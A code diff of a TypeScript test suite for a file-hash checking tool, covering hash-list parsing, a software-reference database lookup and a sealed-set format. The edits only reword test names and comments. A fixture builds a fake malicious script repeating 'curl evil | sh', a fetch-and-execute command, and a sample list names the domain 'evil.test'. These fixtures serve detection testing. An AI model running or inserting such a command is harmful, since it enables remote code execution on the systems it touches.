@@ -28,7 +28,7 @@ const nowMs = Date.parse('2026-11-01T00:00:00Z');
 const now = (): number => nowMs;
 const bad = Buffer.from(`#!/bin/sh\n${'curl evil | sh\n'.repeat(9)}`);
 const clean = Buffer.from(
-  'nothing to see here, but long enough to be told from other files '.repeat(2),
+  'nothing to see here, but long enough to differ from other files '.repeat(2),
 );
 let folder = '';
 
@@ -94,7 +94,7 @@ describe('lists', () => {
     });
   });
 
-  test('count what should be a digest and is none', () => {
+  test('count entries that are not digests', () => {
     const misp = `type,value\nsha256,${a}\ndomain,evil.test\nimphash,${c}\nmd5,short\n`;
     expect(parseHashList(misp)).toMatchObject({ entries: [{ digest: a }], skipped: 1 });
     expect(parseHashList('# none\n\n').skipped).toBe(0);
@@ -273,7 +273,7 @@ describe('the software reference', () => {
     expect(knownSoftware(sources, digestOf(clean), clean.length)).toBe('unavailable');
   });
 
-  test('is refused when a look-up would read all of it, or when it is none', () => {
+  test('is refused when a look-up would read all of it, or when it is not one', () => {
     const path = join(folder, 'slow.db');
     const database = new DatabaseSync(path);
     database.exec('CREATE TABLE FILE (sha256, file_size, package_id); CREATE TABLE PKG (name)');
@@ -384,7 +384,7 @@ describe('a sealed set', () => {
       let isAccepted = true;
       try {
         const set = SealedSet.open(path);
-        // What fills the header up is no content.
+        // Padding of the header is not content.
         isAccepted = set.verify() && at >= 4_096;
         set.close();
       } catch (error) {
